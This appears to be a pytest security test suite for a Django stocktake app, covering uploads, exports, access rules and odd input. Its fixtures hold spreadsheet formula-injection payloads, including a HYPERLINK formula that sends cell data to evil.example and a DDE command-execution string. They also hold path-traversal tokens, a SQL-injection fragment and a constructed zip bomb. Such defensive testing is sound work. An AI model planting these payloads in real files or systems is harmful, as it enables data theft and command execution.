"""Attacks through files and odd input: named files, zip bombs, formulas, comments, closed rounds, 500s."""

from __future__ import annotations

import csv
import io
import time
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.urls import reverse

from atf import limits, outputs
from atf.tests.test_permission_matrix import client_for
from atf.text import normalise
from jobs.tests.helpers import run_queued_jobs
from stocktake import uploads
from stocktake.importer import import_stocktake
from stocktake.models import Entry, Return, Round
from stocktake.tests.workbooks import zip_with

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    "'=already quoted",
    "''two apostrophes",
    "'Tis the season",
    "<script>alert(1)</script> & “quotes”",
]


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def hostile_entries(world):
    """The reviewer's ICS has an entry per hostile text in the open round, all readable by the reviewer."""
    theme = world.framework.themes.get(number=2)
    made = []
    for position, text in enumerate(HOSTILE):
        entry = Entry.objects.create(
            round=world.rounds.open, theme=theme, level="borough", lead_in="", text=text, position=position
        )
        entry.places.set([world.places["knowsley"]])
        made.append(entry)
    return made


@pytest.fixture
def raw_hostile_entries(hostile_entries):
    """The same, stored exactly as written (saves normalise white space): outputs must guard any stored text."""
    for entry, text in zip(hostile_entries, HOSTILE, strict=True):
        Entry.objects.filter(pk=entry.pk).update(text=text)
    return hostile_entries


# No file name from the client reaches the file system ----------------------


def test_a_client_named_file_is_never_read_or_deleted(world, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    planted = uploads.upload_dir("entry-files") / "planted.csv"
    planted.write_text(
        "id,round,theme,level,places,lead_in,text,position\n,Open round 2025,1,borough,Knowsley,,Planted,0\n"
    )
    client = signed_in(world.users.lead)
    for token in ("planted", "..%2Fentry-files%2Fplanted", "planted.csv", "x" * 100, "%00"):
        response = client.post(f"/admin/stocktake/entry/import/{token}/", follow=True)
        assert response.status_code in (200, 404)
        if response.status_code == 200:
            assert "expired or was not yours" in response.content.decode()
    # The retired confirm step of django-import-export is gone.
    gone = client.post("/admin/stocktake/entry/process_import/", {"import_file_name": "planted.csv"}, follow=True)
    assert gone.status_code == 404
    assert planted.exists()
    assert not Entry.objects.filter(text="Planted").exists()


def test_one_session_cannot_confirm_another_session_s_upload(world, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    rows = "id,round,theme,level,places,lead_in,text,position\n,Open round 2025,1,borough,Knowsley,Knowsley - ,Mine,0\n"
    owner = signed_in(world.users.lead)
    preview = owner.post(
        reverse("admin:stocktake_entry_import"), {"entries_file": SimpleUploadedFile("mine.csv", rows.encode())}
    )
    token = preview.context["token"]
    thief = signed_in(world.users.reviewer)
    thief.post(reverse("admin:stocktake_entry_import_confirm", args=[token]))
    assert not Entry.objects.filter(text="Mine").exists()
    owner.post(reverse("admin:stocktake_entry_import_confirm", args=[token]))
    run_queued_jobs()  # the import runs as a background job
    assert Entry.objects.get(text="Mine").places.get().slug == "knowsley"
    assert not any((tmp_path / "entry-files").iterdir()), "the confirmed upload is deleted"


def test_a_zip_bomb_sent_to_the_entry_import_is_refused_in_seconds(world, workbook_path, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    with zipfile.ZipFile(workbook_path) as source:
        members = {name: source.read(name) for name in source.namelist()}
    members["xl/worksheets/sheet1.xml"] += b" " * (limits.MAX_INFLATED_BYTES + 1024 * 1024)
    bomb = zip_with(members)
    del members
    started = time.monotonic()
    response = signed_in(world.users.lead).post(
        reverse("admin:stocktake_entry_import"), {"entries_file": SimpleUploadedFile("entries.xlsx", bomb)}
    )
    assert time.monotonic() - started < 10
    assert response.status_code == 200
    assert "expands to more than 50 MB" in response.content.decode()
    assert not any((tmp_path / "entry-files").iterdir())


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\xff\xfe\x00bad", "not UTF-8"),
        (b"a,b\n1,2\n", "has no “round” or “text” column"),
        (b"id,round,text\n,x," + b"y" * 200_000 + b"\n", "could not be read as CSV"),
        (b"", "The submitted file is empty"),
    ],
)
def test_a_bad_entries_file_gets_a_message_and_changes_nothing(world, content, message, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    before = Entry.objects.count()
    response = signed_in(world.users.reviewer).post(
        reverse("admin:stocktake_entry_import"), {"entries_file": SimpleUploadedFile("entries.csv", content)}
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert Entry.objects.count() == before


# The return's comment and status --------------------------------------------


@pytest.fixture
def returned_knowsley(world):
    from stocktake import returns

    place = world.places["knowsley"]
    returns.submit(world.users.lead, world.rounds.open, place)
    return returns.review(
        world.users.reviewer,
        world.rounds.open,
        place,
        decision=Return.Status.RETURNED,
        comment="Confidential: your hub figures do not add up",
    )


@pytest.mark.parametrize(
    ("role", "reads"),
    [("lead", True), ("reviewer", True), ("other_lead", False), ("viewer", False), ("secretariat", False)],
)
def test_a_returned_borough_s_comment_is_read_only_by_it_and_the_reviewers(world, returned_knowsley, role, reads):
    client = signed_in(getattr(world.users, role))
    page = client.get(reverse("stocktake:return_detail", args=[world.rounds.open.slug, "knowsley"]))
    assert page.status_code == 200
    content = page.content.decode()
    assert ("Confidential: your hub figures" in content) is reads
    assert ("Returned for changes" in content) is reads
    grid = client.get(reverse("stocktake:coverage", args=[world.rounds.open.slug])).content.decode()
    assert ("Returned" in grid) is reads
    home = client.get(reverse("home")).content.decode()
    assert ("Confidential: your hub figures" in home) is (role == "lead")


# Closed rounds are read-only on every path ----------------------------------


def test_a_closed_round_takes_no_workbook_from_the_admin_or_the_command(world, workbook_path, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    import_stocktake(workbook_path, framework=world.framework, round_name="Spring 2026", user=world.users.reviewer)
    Round.objects.filter(name="Spring 2026").update(status=Round.Status.CLOSED)
    edited = tmp_path / "edited.xlsx"
    book = openpyxl.load_workbook(workbook_path)
    book["Themes"]["G5"].value = "Knowsley - rewritten after the round closed"
    book.save(edited)
    before = sorted(Entry.objects.filter(round__name="Spring 2026").values_list("text", flat=True))
    with edited.open("rb") as handle:
        response = signed_in(world.users.reviewer).post(
            reverse("admin:stocktake_round_upload"),
            {"workbook": handle, "round_name": "Spring 2026", "framework": world.framework.pk},
        )
    assert "is closed, so nothing can be imported" in response.content.decode()
    with pytest.raises(CommandError, match="is closed"):
        call_command("import_stocktake", str(edited), "--round", "Spring 2026", "--framework", world.framework.slug)
    assert sorted(Entry.objects.filter(round__name="Spring 2026").values_list("text", flat=True)) == before


def test_a_closed_round_s_rows_are_read_only_to_superusers_too(world):
    entry = world.entries.closed
    client = signed_in(world.users.superuser)
    client.post(reverse("admin:stocktake_entry_delete", args=[entry.pk]), {"post": "yes"})
    assert Entry.objects.filter(pk=entry.pk).exists()
    closed_return = Return.objects.create(round=world.rounds.closed, place=world.places["halton"], status="accepted")
    reviewer = signed_in(world.users.reviewer)
    response = reviewer.post(
        reverse("stocktake:return_review", args=[world.rounds.closed.slug, "halton"]),
        {"decision": "returned", "comment": "Reopened by the back door"},
        follow=True,
    )
    assert "is closed" in response.content.decode()
    closed_return.refresh_from_db()
    assert closed_return.status == "accepted" and closed_return.comment == ""


# Downloads: no formula, no character lost -----------------------------------


def _xlsx_cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_no_formula(content: bytes):
    cells = _xlsx_cells(content)
    assert cells
    assert all(cell.data_type != "f" for cell in cells)
    for cell in cells:
        if isinstance(cell.value, str) and outputs.runs_as_formula(cell.value):
            assert cell.quotePrefix, cell.coordinate
    return [cell.value for cell in cells]


def _csv_values(content: bytes):
    return [value for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for value in row]


def test_the_entries_downloads_hold_no_formula_and_lose_no_character(world, raw_hostile_entries):
    client = signed_in(world.users.reviewer)
    workbook = client.get(reverse("stocktake:entry_list"), {"_export": "xlsx", "round": world.rounds.open.pk})
    values = _assert_no_formula(workbook.content)
    for text in HOSTILE:
        # XML keeps no lone carriage return: a workbook holds it as a line break.
        assert any(text.replace("\r", "\n") in str(v) for v in values), text
    csv_file = client.get(reverse("stocktake:entry_list"), {"_export": "csv", "round": world.rounds.open.pk})
    cells = _csv_values(csv_file.content)
    for text in HOSTILE:
        assert any(outputs.csv_value(c) == text or text in outputs.csv_value(c) for c in cells), text
    assert not any(c.startswith(outputs.FORMULA_TRIGGERS) for c in cells)


def test_the_action_log_downloads_hold_no_formula(matrix_world):
    action = matrix_world.minutes.st_helens.action
    action.description, action.owner = HOSTILE[0], HOSTILE[1]
    action.save()
    client = client_for(matrix_world, "secretariat")
    values = _assert_no_formula(client.get(reverse("commissions:action_list"), {"_export": "xlsx"}).content)
    assert HOSTILE[0] in values and HOSTILE[1] in values
    cells = _csv_values(client.get(reverse("commissions:action_list"), {"_export": "csv"}).content)
    assert "'" + HOSTILE[0] in cells
    assert not any(c.startswith(outputs.FORMULA_TRIGGERS) for c in cells)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_flat_file_keeps_every_hostile_text_exactly(world, hostile_entries, file_format, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    client = signed_in(world.users.reviewer)
    exported = client.get(
        reverse("admin:stocktake_entry_export"), {"file_format": file_format, "round": world.rounds.open.pk}
    )
    if file_format == "xlsx":
        _assert_no_formula(exported.content)
    else:
        assert not any(c.startswith(outputs.FORMULA_TRIGGERS) for c in _csv_values(exported.content))
    upload = SimpleUploadedFile(f"entries.{file_format}", exported.content)
    preview = client.post(reverse("admin:stocktake_entry_import"), {"entries_file": upload})
    # Stored text is normalised (no CR, no white space at its ends), so both formats come back unchanged.
    stored = Entry.objects.filter(pk__in=[h.pk for h in hostile_entries]).order_by("position")
    assert [e.text for e in stored] == [normalise(text).strip() for text in HOSTILE]
    expected = f"0 created, 0 updated, {3 + len(HOSTILE)} unchanged"
    assert expected in preview.content.decode()


def test_the_export_command_and_the_import_command_round_trip_hostile_text(world, hostile_entries, tmp_path):
    path = tmp_path / "entries.csv"
    call_command("export_entries", "--output", str(path), "--round", world.rounds.open.name)
    assert not any(c.startswith(outputs.FORMULA_TRIGGERS) for c in _csv_values(path.read_bytes()))
    out = io.StringIO()
    call_command("import_entries", str(path), "--dry-run", stdout=out)
    assert f"0 created, 0 updated, {3 + len(HOSTILE)} unchanged" in out.getvalue()


def test_the_coverage_grid_download_holds_no_formula(world):
    response = signed_in(world.users.reviewer).get(
        reverse("stocktake:coverage", args=[world.rounds.open.slug]), {"format": "xlsx"}
    )
    _assert_no_formula(response.content)


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_and_csv_value_are_inverse(text):
    assert outputs.csv_value(outputs.csv_text(text)) == text
    assert not outputs.csv_text(text).startswith(outputs.FORMULA_TRIGGERS)


# No 500 on odd input ----------------------------------------------------------


@pytest.fixture
def placeless_entry(world):
    return Entry.objects.create(
        round=world.rounds.open, theme=world.framework.themes.get(number=3), level="borough", text="No place named"
    )


def test_an_entry_that_names_no_place_can_be_edited_moved_and_deleted(world, placeless_entry):
    client = signed_in(world.users.reviewer)
    pk = placeless_entry.pk
    assert client.get(reverse("stocktake:entry_edit", args=[pk])).status_code == 200
    assert client.get(reverse("stocktake:entry_delete", args=[pk])).status_code == 200
    assert client.post(reverse("stocktake:entry_move", args=[pk]), {"direction": "up"}).status_code == 302
    assert client.post(reverse("stocktake:entry_detail", args=[pk])).status_code < 500
    assert client.post(reverse("stocktake:entry_delete", args=[pk])).status_code == 302
    assert not Entry.objects.filter(pk=pk).exists()


ODD_QUERIES = [
    {"place": "abc", "from": "x", "to": "<script>"},
    {"place": "99999999999999999999", "from": "-1", "to": "1e9"},
    {"page": "zzz", "sort": "nonsense", "view": "../../etc", "round": "abc", "theme": "x", "_export": "pdf"},
    {"q": "\x00" * 10, "format": "xlsx", "status": "'; DROP TABLE"},
    {"page": "-1", "per_page": "100000000"},
]


@pytest.mark.parametrize("query", ODD_QUERIES)
@pytest.mark.parametrize("role", ["reviewer", "lead", "viewer", "secretariat"])
def test_odd_query_strings_never_answer_500(world, query, role):
    client = signed_in(getattr(world.users, role))
    urls = [
        reverse("home"),
        reverse("stocktake:round_list"),
        reverse("stocktake:entry_list"),
        reverse("stocktake:compare"),
        reverse("stocktake:search"),
        reverse("stocktake:coverage", args=[world.rounds.open.slug]),
        reverse("stocktake:return_detail", args=[world.rounds.open.slug, "knowsley"]),
        reverse("commissions:commission_list"),
        reverse("commissions:action_list"),
        reverse("commissions:overview"),
        reverse("admin:stocktake_entry_changelist"),
        reverse("admin:stocktake_entry_export"),
        reverse("admin:commissions_action_changelist"),
    ]
    for url in urls:
        assert client.get(url, query).status_code < 500, url


# Several users at once ---------------------------------------------------------


def test_a_round_seen_by_four_users_as_it_moves_leaks_nothing_at_any_step(world, tmp_path, settings):
    """A lead drafts, imports and submits; the reviewer returns it; others look at every step.

    After each step, every page and download of each user is read: the other
    lead and the viewer never see Knowsley's draft, its status or the ICS's
    comment; the lead and the reviewer do once they should.
    """
    settings.MEDIA_ROOT = tmp_path
    users = {role: signed_in(getattr(world.users, role)) for role in ("lead", "other_lead", "viewer", "reviewer")}
    round_ = world.rounds.open
    secret_draft = 'Knowsley draft: =HYPERLINK("http://x") confidential pilot'
    comment = "Please split the pilot into two entries"

    def seen_by(role) -> str:
        client = users[role]
        texts = [
            client.get(reverse("home")).content.decode(),
            client.get(reverse("stocktake:return_detail", args=[round_.slug, "knowsley"])).content.decode(),
            client.get(reverse("stocktake:coverage", args=[round_.slug])).content.decode(),
            client.get(reverse("stocktake:entry_list")).content.decode(),
            client.get(reverse("stocktake:search"), {"q": "confidential"}).content.decode(),
            client.get(reverse("stocktake:entry_list"), {"_export": "csv"}).content.decode("utf-8-sig"),
            "\n".join(str(v) for v in _xlsx_values(client.get(reverse("stocktake:entry_list"), {"_export": "xlsx"}))),
            "\n".join(
                str(v) for v in _xlsx_values(client.get(reverse("stocktake:round_workbook", args=[round_.slug])))
            ),
        ]
        return "\n".join(texts)

    def check(draft_readers, comment_readers):
        for role in users:
            page = seen_by(role)
            assert ("confidential pilot" in page) is (role in draft_readers), (role, "draft")
            assert (comment in page) is (role in comment_readers), (role, "comment")

    # 1. The lead adds a draft through the flat import.
    header = "id,round,theme,level,places,lead_in,text,position\n"
    row = f',{round_.name},1,borough,Knowsley,Knowsley - ,"{secret_draft.replace(chr(34), chr(34) * 2)}",5\n'
    preview = users["lead"].post(
        reverse("admin:stocktake_entry_import"),
        {"entries_file": SimpleUploadedFile("mine.csv", (header + row).encode())},
    )
    users["lead"].post(reverse("admin:stocktake_entry_import_confirm", args=[preview.context["token"]]))
    run_queued_jobs()  # the import runs as a background job
    assert Entry.objects.filter(text=secret_draft).exists()
    check(draft_readers={"lead", "reviewer"}, comment_readers=set())

    # 2. The lead submits: the others now read the entry, never a status or comment.
    users["lead"].post(reverse("stocktake:return_submit", args=[round_.slug, "knowsley"]), {"confirmed": "yes"})
    check(draft_readers=set(users), comment_readers=set())

    # 3. The reviewer returns it with a comment: for the lead and the reviewer only.
    users["reviewer"].post(
        reverse("stocktake:return_review", args=[round_.slug, "knowsley"]),
        {"decision": "returned", "comment": comment},
    )
    check(draft_readers={"lead", "reviewer"}, comment_readers={"lead", "reviewer"})

    # 4. The other lead tries to reach it by id through the import: refused, and not quoted back.
    entry = Entry.objects.get(text=secret_draft)
    hostile = f"{entry.pk},{round_.name},1,borough,Halton,Halton - ,Taken over,0\n"
    attempt = users["other_lead"].post(
        reverse("admin:stocktake_entry_import"),
        {"entries_file": SimpleUploadedFile("theirs.csv", (header + hostile).encode())},
    )
    assert "confidential pilot" not in attempt.content.decode()
    entry.refresh_from_db()
    assert entry.text == secret_draft
    check(draft_readers={"lead", "reviewer"}, comment_readers={"lead", "reviewer"})


def _xlsx_values(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell.value for cell in _xlsx_cells(content)]
